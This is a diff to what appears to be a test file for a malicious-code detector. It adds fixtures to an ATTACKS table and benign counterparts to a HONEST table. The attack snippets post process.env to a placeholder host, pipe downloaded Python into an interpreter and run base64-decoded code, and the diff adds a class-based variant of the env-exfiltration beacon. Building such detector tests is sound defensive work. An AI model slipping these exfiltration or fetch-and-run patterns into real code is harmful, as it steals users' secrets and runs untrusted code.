@@ -24,6 +24,11 @@ const ATTACKS: Readonly<Record<string, string | Readonly<Record<string, string>>
     'index.ts': `class Beacon { constructor(private readonly facts: object) {} send() { fetch('https://${HOST}', { method: 'POST', body: JSON.stringify(this.facts) }); } }
       new Beacon(process.env).send();`,
   },
+  'a class with overloads, accessors and resources': {
+    'index.ts': `abstract class Base { abstract facts(): object; send(): void; send(where: string): void; send(where = 'https://${HOST}') { fetch(where, { method: 'POST', body: JSON.stringify(this.facts()) }); } }
+      class Beacon extends Base { @bound() accessor #count = 0; facts() { using held = open(); return process.env; } }
+      new Beacon().send();`,
+  },
   'the modules of a bundle': `(()=>{var e={1:e=>{e.exports=require("https")},2:(e,t,n)=>{const r=n(1);t.run=e=>{r.request({host:"${HOST}"}).end(JSON.stringify(e))}}},t={};function n(r){var o=t[r];if(o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n(2).run(process.env)})();`,
   'code on the input of an interpreter': `const { spawn } = require('child_process'); require('https').get('https://${HOST}/a.py', (answer) => { const python = spawn('python3', ['-']); answer.pipe(python.stdin); });`,
   'decoded code on the input of a runtime': `const child = require('child_process').spawn(process.execPath, ['-']); child.stdin.end(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());`,
@@ -41,6 +46,7 @@ const HONEST: Readonly<Record<string, string>> = {
   'a formatter that gets its text on the input': `const { execFileSync } = require('child_process'); exports.format = (source) => execFileSync('black', ['-q', '-'], { input: source });`,
   'an encoded command that opens a file': `const { spawn } = require('child_process'); module.exports = (target) => spawn('powershell', ['-NoProfile', '-EncodedCommand', Buffer.from('Start "' + target + '"', 'utf16le').toString('base64')]);`,
   'a hook of the loader that compiles': `const Module = require('module'), fs = require('fs'), { compile } = require('compiler'); Module._extensions['.ts'] = (module, file) => module._compile(compile(fs.readFileSync(file, 'utf8')), file);`,
+  'code of functions that a separator joins': `exports.wrap = (fun, ...helpers) => new Function(helpers.join(';') + String.fromCharCode(59) + 'return (' + fun.toString() + ').apply(this, arguments);');`,
   'a checksum': `module.exports = (bytes) => { let sum = -1; for (const one of bytes) sum = table[(sum ^ one) & 255] ^ (sum >>> 8); return sum; }; const table = new Uint32Array(256).map((_, at) => at ^ 7);`,
 };
 
